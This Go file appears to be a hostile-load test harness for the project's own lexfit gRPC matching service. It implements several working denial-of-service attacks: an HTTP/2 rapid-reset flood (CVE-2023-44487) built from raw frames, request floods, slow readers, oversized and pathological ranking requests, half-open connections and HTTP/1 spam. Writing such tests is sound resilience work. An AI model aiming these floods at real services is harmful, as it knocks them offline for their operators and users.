//go:build hostile

package main

import (
	"bytes"
	"context"
	"encoding/binary"
	"io"
	"net"
	"os"
	"os/exec"
	"strconv"
	"strings"
	"sync"
	"time"

	"google.golang.org/protobuf/proto"

	"github.com/lexfit/lexfit/matcher/profilegen"
	lexfitv1 "github.com/lexfit/lexfit/proto/lexfit/v1"
	"github.com/lexfit/lexfit/proto/lexfit/v1/lexfitv1grpc"
)

// attack is what one attacker does until the context ends, or the connection does: then it comes again. It counts what it sends.
type attack func(ctx context.Context, address string, sent *counter) error

var attacks = map[string]attack{
	"resets": resets, "floods": floods, "slow": slowReaders, "oversized": oversized, "ligatures": ligatures, "equals": equals,
	"halfopen": halfOpen, "http1": http1,
}

// attackAs attacks until the input ends, and says how often.
func attackAs(ctx context.Context, kind, address string, input io.Reader) int64 {
	ctx, cancel := context.WithCancel(ctx)
	defer cancel()
	go func() {
		_, _ = io.Copy(io.Discard, input)
		cancel()
	}()
	var sent counter
	for ctx.Err() == nil {
		if err := attacks[kind](ctx, address, &sent); err != nil {
			time.Sleep(time.Millisecond) // refused at the door
		}
	}
	return sent.Load()
}

// attackers starts so many of each kind, in processes of their own. The function ends them and says how often they attacked.
func attackers(ctx context.Context, address string, kinds []string, each int) (stop func() int64, err error) {
	var ends []func() int64
	stop = func() (sent int64) {
		for _, end := range ends {
			sent += end()
		}
		return sent
	}
	self, err := os.Executable()
	if err != nil {
		return nil, err
	}
	for _, kind := range kinds {
		for range each {
			command := exec.CommandContext(ctx, self, "--as", kind, "--at", address) //nolint:gosec // this program
			var out bytes.Buffer
			command.Stdout = &out
			input, err := command.StdinPipe()
			if err == nil {
				err = command.Start()
			}
			if err != nil {
				stop()
				return nil, err
			}
			ends = append(ends, func() int64 {
				_ = input.Close()
				late := time.AfterFunc(5*time.Second, func() { _ = command.Process.Kill() })
				_ = command.Wait()
				late.Stop()
				sent, _ := strconv.ParseInt(strings.TrimSpace(out.String()), 10, 64)
				return sent
			})
		}
	}
	return stop, nil
}

// raw is a connection without a library's manners. What comes back is thrown away.
func raw(ctx context.Context, address string) (net.Conn, error) {
	conn, err := (&net.Dialer{}).DialContext(ctx, "tcp", address)
	if err != nil {
		return nil, err
	}
	context.AfterFunc(ctx, func() { _ = conn.Close() })
	go func() { _, _ = io.Copy(io.Discard, conn) }()
	return conn, nil
}

const (
	frameData, frameHeaders, frameReset, frameSettings = 0, 1, 3, 4

	flagEndStream, flagEndHeaders = 1, 4
)

// frame writes an HTTP/2 frame.
func frame(to []byte, kind, flags byte, stream uint32, payload []byte) []byte {
	to = append(to, byte(len(payload)>>16), byte(len(payload)>>8), byte(len(payload)), kind, flags)
	to = binary.BigEndian.AppendUint32(to, stream)
	return append(to, payload...)
}

// headers are those of a call, each written out (RFC 7541, 6.2.2).
func headers(method string) []byte {
	var block []byte
	for _, field := range [][2]string{
		{":method", "POST"}, {":scheme", "http"}, {":path", method}, {":authority", "lexfit"}, {"content-type", "application/grpc"}, {"te", "trailers"},
	} {
		block = append(block, 0, byte(len(field[0])))
		block = append(block, field[0]...)
		block = append(block, byte(len(field[1])))
		block = append(block, field[1]...)
	}
	return block
}

const preface = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

// resets opens calls and cancels them, as fast as it can write (CVE-2023-44487).
func resets(ctx context.Context, address string, sent *counter) error {
	conn, err := raw(ctx, address)
	if err != nil {
		return err
	}
	defer conn.Close() //nolint:errcheck // it is over
	message, err := proto.Marshal(&lexfitv1.ScoreCandidateRequest{Profile: profilegen.Typical()})
	if err != nil {
		return err
	}
	body := append(binary.BigEndian.AppendUint32([]byte{0}, uint32(len(message))), message...)
	head := headers(lexfitv1grpc.MatchService_ScoreCandidate_FullMethodName)
	out := frame([]byte(preface), frameSettings, 0, 0, nil)
	for stream := uint32(1); ctx.Err() == nil && stream < 1<<30; {
		for range 100 {
			out = frame(out, frameHeaders, flagEndHeaders, stream, head)
			if stream%4 == 1 { // half of them with all that makes work
				out = frame(out, frameData, flagEndStream, stream, body)
			}
			out = frame(out, frameReset, 0, stream, []byte{0, 0, 0, 8})
			stream += 2
		}
		if _, err := conn.Write(out); err != nil {
			return err
		}
		sent.Add(100)
		out = out[:0]
	}
	return nil
}

// calls makes the same call over and over, so many at once.
func calls(ctx context.Context, address string, sent *counter, atOnce int, call func(lexfitv1grpc.MatchServiceClient) error) error {
	conn, err := dial(address)
	if err != nil {
		return err
	}
	defer conn.Close() //nolint:errcheck // it is over
	client := lexfitv1grpc.NewMatchServiceClient(conn)
	var running sync.WaitGroup
	for range atOnce {
		running.Go(func() {
			for ctx.Err() == nil {
				_ = call(client)
				sent.Add(1)
			}
		})
	}
	running.Wait()
	return nil
}

// floods makes good calls without a pause, a hundred at once.
func floods(ctx context.Context, address string, sent *counter) error {
	request := &lexfitv1.ScoreCandidateRequest{Profile: profilegen.Typical()}
	return calls(ctx, address, sent, 100, func(client lexfitv1grpc.MatchServiceClient) error {
		_, err := client.ScoreCandidate(ctx, request)
		return err
	})
}

// slowReaders send profiles down streams and read no reply.
func slowReaders(ctx context.Context, address string, sent *counter) error {
	return calls(ctx, address, sent, 50, func(client lexfitv1grpc.MatchServiceClient) error {
		stream, err := client.ScoreCandidates(ctx)
		if err != nil {
			return err
		}
		message := &lexfitv1.ScoreCandidatesRequest{Message: &lexfitv1.ScoreCandidatesRequest_Profile{Profile: profilegen.Typical()}}
		for stream.Send(message) == nil {
			sent.Add(1)
		}
		return nil
	})
}

// rank makes rankings of a pool, so many at once.
func rank(ctx context.Context, address string, sent *counter, atOnce int, request *lexfitv1.RankCandidatesRequest) error {
	return calls(ctx, address, sent, atOnce, func(client lexfitv1grpc.MatchServiceClient) error {
		_, err := client.RankCandidates(ctx, request)
		return err
	})
}

func target() *lexfitv1.RankOptions { return &lexfitv1.RankOptions{Target: "roles/paralegal"} }

// oversized sends the largest pools that there may be, sixteen at once.
func oversized(ctx context.Context, address string, sent *counter) error {
	request := &lexfitv1.RankCandidatesRequest{Options: target()}
	for size, profile := 0, profilegen.Typical(); size < 14<<20; size += proto.Size(profile) + 4 {
		request.Profiles = append(request.Profiles, profile)
	}
	request.Profiles = request.GetProfiles()[:min(len(request.GetProfiles()), 10_000)]
	return rank(ctx, address, sent, 16, request)
}

// ligatures sends profiles of 300 kB that hold 1.8 million letters.
func ligatures(ctx context.Context, address string, sent *counter) error {
	profile := &lexfitv1.CandidateProfile{CandidateId: "wide"}
	for range 500 {
		profile.Skills = append(profile.Skills, &lexfitv1.Skill{Name: strings.Repeat("\ufdfa", 200)})
	}
	return calls(ctx, address, sent, 8, func(client lexfitv1grpc.MatchServiceClient) error {
		_, err := client.ScoreCandidate(ctx, &lexfitv1.ScoreCandidateRequest{Profile: profile})
		return err
	})
}

// equals asks why two thousand equal candidates stand where they do.
func equals(ctx context.Context, address string, sent *counter) error {
	request := &lexfitv1.RankCandidatesRequest{Options: target()}
	request.Options.TopK, request.Options.ExplainRank, request.Options.Firmness = 2000, true, true
	for i := range 2000 {
		profile := profilegen.Typical()
		profile.CandidateId = strconv.Itoa(i)
		request.Profiles = append(request.Profiles, profile)
	}
	return rank(ctx, address, sent, 4, request)
}

// halfOpen opens connections and streams, and says no more.
func halfOpen(ctx context.Context, address string, sent *counter) error {
	var list []net.Conn
	defer func() {
		for _, conn := range list {
			_ = conn.Close()
		}
	}()
	for i := range 300 {
		conn, err := raw(ctx, address)
		if err != nil {
			return err
		}
		list = append(list, conn)
		out := []byte(preface)[:12] // not even hello
		if i%2 == 0 {
			out = frame([]byte(preface), frameSettings, 0, 0, nil)
			for stream := uint32(1); stream < 200; stream += 2 {
				out = frame(out, frameHeaders, flagEndHeaders, stream, headers(lexfitv1grpc.MatchService_ScoreCandidate_FullMethodName))
				out = frame(out, frameData, 0, stream, append([]byte{0, 0, 200, 0, 0}, make([]byte, 1000)...)) // the first of 13 MB
			}
		}
		if _, err := conn.Write(out); err == nil {
			sent.Add(1)
		}
	}
	select {
	case <-ctx.Done():
	case <-time.After(2 * time.Second):
	}
	return nil
}

// http1 speaks another language.
func http1(ctx context.Context, address string, sent *counter) error {
	conn, err := raw(ctx, address)
	if err != nil {
		return err
	}
	defer conn.Close() //nolint:errcheck // it is over
	for ctx.Err() == nil {
		if _, err := conn.Write([]byte(strings.Repeat("GET / HTTP/1.1\r\nHost: lexfit\r\n\r\n", 100))); err != nil {
			return nil
		}
		sent.Add(100)
	}
	return nil
}
